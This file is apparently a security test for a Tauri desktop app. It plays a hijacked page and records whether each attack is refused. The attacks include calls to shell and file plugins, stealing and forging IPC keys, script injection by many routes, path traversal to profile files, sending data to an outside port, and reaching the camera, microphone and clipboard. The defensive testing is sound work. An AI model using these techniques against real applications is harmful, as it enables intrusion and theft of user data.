// What a page could try that an attacker has taken over. Each try ends as
// `refused`, or says what it got. Arguments: the port of somebody outside, a
// file of the profile, and the function that takes the outcomes.
const [port, file, done] = arguments;
const outside = `http://127.0.0.1:${port}`;
const tauri = window.__TAURI_INTERNALS__;
const REFUSED = 'refused';
const LATEST = 3000;

window.stays = true;
window.owned = [];
const tries = [];
const attempt = (name, act) => tries.push([name, act]);

/** Refused if it throws or rejects. */
const throws = (act) => async () => {
  try {
    return `got ${String(await act()).slice(0, 80)}`;
  } catch {
    return REFUSED;
  }
};

/** Refused if the policy says so, or the element fails. */
const blocked = (act) => () =>
  new Promise((end) => {
    const refuse = () => end(REFUSED);
    document.addEventListener('securitypolicyviolation', refuse, { once: true });
    const element = act();
    if (!(element instanceof Element)) return;
    element.addEventListener('error', refuse, { once: true });
    element.addEventListener('load', () => end(`loaded <${element.localName}>`), { once: true });
  });

const add = (name, properties) => {
  const element = Object.assign(document.createElement(name), properties);
  element.dataset.hostile = '';
  document.body.append(element);
  return element;
};
const own = (how) => `window.owned.push('${how}'); parent.owned?.push('${how}')`;
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));

// Commands that exist nowhere, or for others only.
attempt('a global API', async () => (window.__TAURI__ === undefined ? REFUSED : 'window.__TAURI__ is there'));
for (const [command, payload] of [
  ['plugin:fs|read_text_file', { path: file }],
  ['plugin:fs|write_text_file', { path: file, contents: 'x' }],
  ['plugin:shell|open', { path: outside }],
  ['plugin:shell|execute', { program: 'sh', args: ['-c', 'true'] }],
  ['plugin:opener|open_url', { url: outside }],
  ['plugin:opener|open_path', { path: file }],
  ['plugin:http|fetch', { clientConfig: { method: 'GET', url: outside } }],
  ['plugin:dialog|open', { options: {} }],
  ['plugin:dialog|message', { message: 'x' }],
  ['plugin:path|resolve_directory', { directory: 21 }],
  ['plugin:event|listen', { event: 'x', target: { kind: 'Any' }, handler: 1 }],
  ['plugin:window|set_title', { label: 'main', value: 'x' }],
  ['plugin:webview|create_webview_window', { options: { label: 'x', url: outside } }],
  ['plugin:app|version', {}],
  ['plugin:resources|close', { rid: 1 }],
  ['plugin:window-state|save_window_state', { flags: 63 }],
  ['plugin:deep-link|get_current', {}],
  ['keys', {}],
  ['../about', {}],
  ['__proto__', {}],
]) {
  attempt(`command ${command}`, throws(() => tauri.invoke(command, payload)));
}

// The same past the isolation frame, with what an honest call gives away.
const stolen = {};
attempt('stealing the key of an honest call', async () => {
  const honest = window.fetch;
  window.fetch = (url, options) => {
    Object.assign(stolen, { headers: options.headers, body: options.body });
    return honest(url, options);
  };
  await tauri.invoke('about');
  window.fetch = honest;
  return stolen.body ? REFUSED : 'nothing was overheard: the tries below prove nothing';
});
const forged = (command, body) => async () => {
  const options = { method: 'POST', headers: stolen.headers, body: body ?? stolen.body };
  const answer = await fetch(tauri.convertFileSrc(command, 'ipc'), options).catch(() => null);
  return answer?.headers.get('Tauri-Response') === 'ok' ? `answered: ${await answer.text()}` : REFUSED;
};
attempt('a forged message', forged('slots', '{}'));
attempt('a forged message to a plugin', forged('plugin:fs|read_text_file', JSON.stringify({ path: file })));
attempt('an overheard message to a plugin', forged('plugin:fs|read_text_file'));
attempt('an overheard message to the path plugin', forged('plugin:path|resolve_directory'));
attempt('a message past the custom protocol', async () => {
  let answer = REFUSED;
  const callback = tauri.transformCallback((value) => (answer = `answered ${JSON.stringify(value)}`));
  const key = new Headers(stolen.headers).get('Tauri-Invoke-Key');
  for (const __TAURI_INVOKE_KEY__ of [key, 'guessed']) {
    for (const cmd of ['slots', 'plugin:fs|read_text_file']) {
      const message = { cmd, callback, error: 1, payload: { path: file }, options: {}, __TAURI_INVOKE_KEY__ };
      window.ipc?.postMessage(JSON.stringify(message));
    }
  }
  // Answers of messages before this one have come by then.
  await tauri.invoke('about');
  return answer;
});
attempt('looking into the isolation frame', async () => {
  const frame = document.getElementById('__tauri_isolation__');
  if (!frame) return 'there is none';
  if (frame.contentDocument) return 'its document is open';
  return throws(() => frame.contentWindow.document.body.innerHTML)();
});
attempt('changing what all objects are', async () => {
  try {
    Object.prototype.toJSON = () => 'x';
  } catch {
    // As it should be.
  }
  return 'toJSON' in {} ? 'the prototype changed' : REFUSED;
});

// Scripts that are not the page's own.
attempt('eval', throws(() => (0, eval)(own('eval'))));
attempt('new Function', throws(() => new Function(own('Function'))()));
attempt('a timer with text', blocked(() => void setTimeout(own('timer'), 0)));
attempt('an inline script', blocked(() => void add('script', { textContent: own('inline') })));
attempt('an inline handler', blocked(() => {
  const button = add('button', { textContent: 'x' });
  button.setAttribute('onclick', own('handler'));
  button.click();
}));
attempt('a javascript: link', blocked(() => void add('a', { href: `javascript:${own('link')}` }).click()));
attempt('a data: script', blocked(() => add('script', { src: `data:text/javascript,${own('data')}` })));
attempt('a blob: script', blocked(() => add('script', { src: blob(own('blob'), 'text/javascript') })));
attempt('a script from outside', blocked(() => add('script', { src: `${outside}/x.js` })));
attempt('a data: module', throws(() => import(`data:text/javascript,${own('module')}`)));
attempt('a blob: worker', blocked(() => {
  try {
    new Worker(blob('postMessage(1)', 'text/javascript')).onmessage = () => window.owned.push('worker');
  } catch {
    document.dispatchEvent(new Event('securitypolicyviolation'));
  }
}));

// Frames.
for (const [what, src] of [
  ['outside', outside],
  ['a data: page', `data:text/html,<script>${own('data frame')}</script>`],
  ['a blob: page', blob(`<script>${own('blob frame')}</script>`, 'text/html')],
]) {
  attempt(`a frame of ${what}`, blocked(() => void add('iframe', { src })));
}
// WebKit and the app turn these away without a word to the page.
for (const [what, properties] of [
  ['a file', { src: `file://${file}` }],
  ['a page of its own', { srcdoc: `<p>x</p><script>${own('srcdoc')}</script>` }],
]) {
  attempt(`a frame of ${what}`, async () => {
    const frame = add('iframe', properties);
    await tauri.invoke('about');
    const text = frame.contentDocument?.documentElement?.textContent ?? '';
    return text === '' ? REFUSED : `it shows ${text.slice(0, 40)}`;
  });
}
attempt('an object', blocked(() => void add('object', { data: outside })));

// Talking to somebody outside.
attempt('fetch', throws(() => fetch(outside, { mode: 'no-cors' })));
attempt('a request', throws(() => new Promise((end, fail) => {
  const request = new XMLHttpRequest();
  request.onload = end;
  request.onerror = fail;
  request.open('GET', outside);
  request.send();
})));
attempt('a socket', throws(() => new Promise((end, fail) => {
  const socket = new WebSocket(outside.replace('http', 'ws'));
  socket.onopen = end;
  socket.onerror = fail;
})));
attempt('a stream of events', throws(() => new Promise((end, fail) => {
  const stream = new EventSource(outside);
  stream.onopen = end;
  stream.onerror = fail;
})));
attempt('a beacon', blocked(() => {
  if (!navigator.sendBeacon?.(outside, 'x')) document.dispatchEvent(new Event('securitypolicyviolation'));
}));
attempt('a picture', blocked(() => add('img', { src: `${outside}/x.png` })));
attempt('a style sheet', blocked(() => add('link', { rel: 'stylesheet', href: `${outside}/x.css` })));
attempt('a film', blocked(() => add('video', { src: `${outside}/x.mp4` })));
attempt('a font', throws(() => new FontFace('x', `url(${outside}/x.woff2)`).load()));
attempt('a form', blocked(() => void add('form', { action: outside, method: 'post' }).submit()));
attempt('a prefetch', async () => (add('link', { rel: 'prefetch', href: `${outside}/x` }), REFUSED));
attempt('a second window', async () => (window.open(outside) ? 'it opened' : REFUSED));

// Files.
const reads = (url) => async () => {
  const text = await fetch(url).then((answer) => answer.text(), () => '');
  return text === '' || /^<!doctype html>/i.test(text) ? REFUSED : `read ${text.slice(0, 40)}`;
};
attempt('a file', reads(`file://${file}`));
attempt('a file as an asset', reads(tauri.convertFileSrc(file)));
attempt('a file above the page', reads(`/../../../../../../../../..${file}`));
attempt('a file above the page, encoded', reads(`/${encodeURIComponent(`../../../../../../../..${file}`)}`));
attempt('a file in the place of the page', reads(`tauri://localhost/${file}`));
attempt('a picture of a file', blocked(() => add('img', { src: `file://${file}` })));
// A device that is a file: written to as a speaker, read as the others.
for (const kind of ['microphone', 'speaker', 'ringer', 'camera', 'screen']) {
  for (const name of [`wav:${file}`, `y4m:${file}`, `file:${file}`, 'file:']) {
    attempt(`${name} as a ${kind}`, throws(() => tauri.invoke('choose_device', { kind, name })));
  }
}
for (const kind of ['speaker', 'ringer', 'screen']) {
  attempt(`a picked file as a ${kind}`, throws(() => tauri.invoke('choose_device_file', { kind })));
}

// The person's devices, and what other pages left.
attempt('microphone', throws(() => navigator.mediaDevices.getUserMedia({ audio: true })));
attempt('camera', throws(() => navigator.mediaDevices.getUserMedia({ video: true })));
attempt('screen', throws(() => navigator.mediaDevices.getDisplayMedia({ video: true })));
attempt('place', throws(() => new Promise((end, fail) => navigator.geolocation.getCurrentPosition(end, fail))));
attempt('clipboard', throws(() => navigator.clipboard.readText()));
attempt('stored things', async () => {
  const kept = { ...localStorage, ...sessionStorage };
  // Kept for the first frame, before Rust is asked for it.
  delete kept.theme;
  const bases = (await indexedDB?.databases?.()) ?? [];
  const all = Object.keys(kept).concat(bases.map((base) => base.name), document.cookie || []);
  return all.length === 0 ? REFUSED : `there is ${all}`;
});

const latest = () => new Promise((end) => setTimeout(() => end('no answer'), LATEST));
const caught = (error) => `failed strangely: ${error}`;
(async () => {
  const outcomes = [];
  for (const [name, act] of tries) {
    outcomes.push([name, await Promise.race([act().catch(caught), latest()])]);
  }
  for (const left of document.querySelectorAll('[data-hostile]')) left.remove();
  await tauri.invoke('about');
  outcomes.push(['code of others', window.owned.length === 0 ? REFUSED : `ran: ${window.owned}`]);
  done(outcomes);
})();
